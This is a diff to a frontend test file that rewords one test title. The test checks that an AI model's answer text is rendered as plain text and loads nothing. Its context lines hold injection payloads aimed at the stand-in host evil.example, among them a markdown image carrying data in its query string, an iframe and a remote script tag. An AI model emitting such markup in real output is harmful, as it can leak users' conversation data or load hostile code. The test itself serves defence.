@@ -58,7 +58,7 @@ describe('the text of an answer', () => {
     expect(screen.queryByText(/No document you can read supports this/)).toBeNull();
   });
 
-  it("R3.10 T15 a model's text loads and links nothing: pictures, links and markup are plain text", async () => {
+  it("R3.10 T15 a model's text loads nothing and links to nothing: pictures, links and markup are shown as plain text", async () => {
     const text = [
       '![secret](https://evil.example/p.png?q=price) [open](https://evil.example/?d=1) <https://evil.example/auto> https://evil.example/bare',
       '<img src="https://evil.example/i.png"><iframe src="https://evil.example"></iframe><script src="https://evil.example/s.js"></script>',
